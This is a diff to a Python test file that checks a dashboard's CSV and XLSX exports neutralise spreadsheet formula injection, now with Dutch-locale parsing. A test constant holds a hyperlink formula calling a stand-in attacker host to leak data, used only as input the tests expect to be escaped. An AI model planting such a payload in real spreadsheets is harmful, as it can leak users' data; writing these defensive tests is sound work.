@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import datetime as dt
 import io
 import zipfile
 from types import SimpleNamespace
@@ -14,6 +16,7 @@ from hypothesis import strategies as st
 from dashboard import downloads
 from werkpad.config import CHECKOUT_DIR
 from werkpad.rendering import safe
+from werkpad.rendering.i18n import Translator
 
 HOSTILE = '=HYPERLINK("http://attacker.example/?leak=1","click")'
 NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
@@ -48,22 +51,26 @@ def _frame() -> pl.DataFrame:
     )
 
 
+def _read_csv(body: bytes) -> list[list[str]]:
+    """A Dutch CSV as Excel in a Belgian locale splits it."""
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
 def test_csv_text_cells_are_never_formulas_and_numbers_stay_numbers():
-    body = safe.csv_bytes(_frame(), "=caption")
-    frame = pl.read_csv(io.BytesIO(body), comment_prefix="#")
-    assert frame["file_name"].to_list()[:6] == ["'" + HOSTILE, "'+1", "'@SUM(A1)", "'\tx"] + [
+    rows = _read_csv(safe.csv_bytes(_frame(), "=caption", "nl"))
+    assert [r[0] for r in rows[2:8]] == ["'" + HOSTILE, "'+1", "'@SUM(A1)", "'\tx"] + [
         "plain",
         "'-x",
     ]
-    assert frame["change"].to_list() == [-1, 2, -3, 0, 5, -6, 7]
-    assert body.startswith(b"# =caption\n")
+    assert [int(r[1]) for r in rows[2:]] == [-1, 2, -3, 0, 5, -6, 7]
+    assert rows[0] == ["# =caption"]
 
 
 def test_xlsx_text_cells_are_strings_and_numbers_stay_numbers():
-    cells = xlsx_cells(safe.xlsx_bytes(_frame(), "=caption"))
-    assert cells["A1"] == ("s", "=caption")
+    cells = xlsx_cells(safe.xlsx_bytes(_frame(), "=caption", "nl"))
+    assert cells["A1"] == ("s", "'=caption")
     assert not [c for c in cells.values() if c[0] == "f"]  # no formula anywhere
-    assert ("s", HOSTILE) in cells.values()
+    assert ("s", "'" + HOSTILE) in cells.values()
     assert ("n", -1) in cells.values() and ("n", -6) in cells.values()
 
 
@@ -84,12 +91,17 @@ def test_markdown_literal_has_no_unescaped_markdown(text):
 
 
 def test_dashboard_downloads_are_safe():
-
-    ctx = SimpleNamespace(caption="Provincie: Limburg")
-    csv = pl.read_csv(io.BytesIO(downloads.csv_bytes(_frame(), ctx)), comment_prefix="#")
-    assert csv["file_name"][0] == "'" + HOSTILE and csv["change"][0] == -1
+    ctx = SimpleNamespace(
+        caption="Provincie: Limburg",
+        t=Translator("nl"),
+        data_date=dt.date(2023, 12, 31),
+        threshold=None,
+    )
+    rows = _read_csv(downloads.csv_bytes(_frame(), ctx))
+    assert rows[2] == ["'" + HOSTILE, "-1"]
+    assert rows[0] == ["# Filters: Provincie: Limburg. Gegevens tot 31/12/2023."]
     cells = xlsx_cells(downloads.xlsx_bytes(_frame(), ctx))
-    assert ("s", HOSTILE) in cells.values() and ("n", -1) in cells.values()
+    assert ("s", "'" + HOSTILE) in cells.values() and ("n", -1) in cells.values()
 
 
 def test_every_table_file_is_written_through_the_one_helper():
